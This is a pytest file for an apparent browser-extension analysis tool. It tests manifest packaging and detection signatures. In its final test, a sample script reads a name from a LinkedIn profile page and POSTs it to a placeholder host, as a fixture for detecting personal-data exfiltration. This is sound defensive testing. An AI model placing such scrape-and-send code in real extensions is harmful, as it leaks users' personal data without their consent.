"""Packages that examples in code stand for: every script runs where the example says."""

import json
from typing import Any

import msgspec
import pytest

from skimtrace.extension.load import load_extension
from skimtrace.extension.model import ContextKind, World
from skimtrace.signatures.examplecode import MANIFEST, package
from skimtrace.signatures.examples import run_examples
from skimtrace.signatures.model import ExampleOutcome
from skimtrace.signatures.schema import Example
from tests.signatures.made import PLAIN, signature, signature_set


def example(*code: dict[str, Any], **more: object) -> Example:
    return msgspec.convert({"title": "made", "code": list(code), **more}, type=Example)


@pytest.mark.parametrize("kind", [kind for kind in ContextKind if kind is not ContextKind.WORKER])
def test_a_script_runs_where_it_is_said_to(kind: ContextKind) -> None:
    extension = load_extension(package(example({"js": "f();", "context": kind.value})))
    contexts = [extension.contexts[key] for key in extension.scripts["example.js"].contexts]
    assert [problem.reason for problem in extension.problems] == []
    in_page = kind is ContextKind.PAGE_WORLD  # declared by the manifest it is a content script of that world
    assert [context.kind for context in contexts] == [ContextKind.CONTENT if in_page else kind]
    assert (contexts[0].world is World.MAIN) == in_page


def test_what_nothing_starts_has_no_context() -> None:
    extension = load_extension(package(example({"js": "f();", "context": "worker"})))
    assert extension.scripts["example.js"].contexts == ()


def test_scripts_of_one_page_stand_together() -> None:
    hosts = ["https://www.example.com/*"]
    code: list[dict[str, Any]] = [
        {"js": "a();", "file": "a.js", "hosts": hosts},
        {"js": "b();", "file": "b.js", "hosts": hosts},
        {"js": "c();", "file": "c.js"},
        {"js": "d();", "file": "d.js", "context": "page-world", "hosts": hosts},
    ]
    assert json.loads(package(example(*code)).read(MANIFEST))["content_scripts"] == [
        {"matches": hosts, "js": ["a.js", "b.js"]},
        {"matches": ["<all_urls>"], "js": ["c.js"]},
        {"matches": hosts, "js": ["d.js"], "world": "MAIN"},
    ]


def test_several_scripts_of_a_worker_are_imported_by_one() -> None:
    code = [{"js": f"{name}();", "file": f"{name}.js", "context": "service-worker"} for name in "ab"]
    bundle = package(example(*code))
    assert json.loads(bundle.read(MANIFEST))["background"] == {"service_worker": "worker.js"}
    assert bundle.read("worker.js") == b'importScripts("a.js", "b.js");'


def test_two_scripts_of_one_name_are_two_files() -> None:
    bundle = package(example({"js": "a();"}, {"js": "b();", "context": "action-popup"}, {"js": "a();"}))
    assert {path: bundle.read(path) for path in bundle.files if path.endswith(".js")} == {
        "example.js": b"a();",
        "example2.js": b"b();",
    }


def test_the_keys_of_the_example_take_the_place_of_those_made() -> None:
    given = {"manifest_version": 2, "permissions": ["storage"], "default_locale": "en"}
    manifest = json.loads(package(example({"js": "a();"}, manifest=given)).read(MANIFEST))
    assert {key: manifest[key] for key in given} == given
    assert manifest["content_scripts"] == [{"matches": ["<all_urls>"], "js": ["example.js"]}]


def outcomes(match: dict[str, Any], *code: dict[str, Any]) -> list[ExampleOutcome]:
    examples = {**PLAIN["examples"], "match": [{"title": "yes", "code": list(code)}]}
    return run_examples(signature_set(signature(match=match, examples=examples)))


def test_flows_and_patterns_of_code_are_tried() -> None:
    read = 'const name = document.querySelector("h1.text-heading-xlarge").innerText;\n'
    send = 'fetch("https://api.example.com/", {method: "POST", body: name});'
    hosts = ["https://www.linkedin.com/*"]
    match = {
        "all": [{"flow": {"data_types": ["person.name"]}}, {"pattern": {"js": ["fetch($URL, ...)"]}}],
        "scope": "file",
    }
    (tried, *_) = outcomes(match, {"js": read + send, "hosts": hosts})
    assert (tried.passed, tried.reason) == (True, "")
    (tried, *_) = outcomes(match, {"js": read + "show(name);", "hosts": hosts})
    assert (tried.passed, tried.reason) == (False, "it should match and does not")
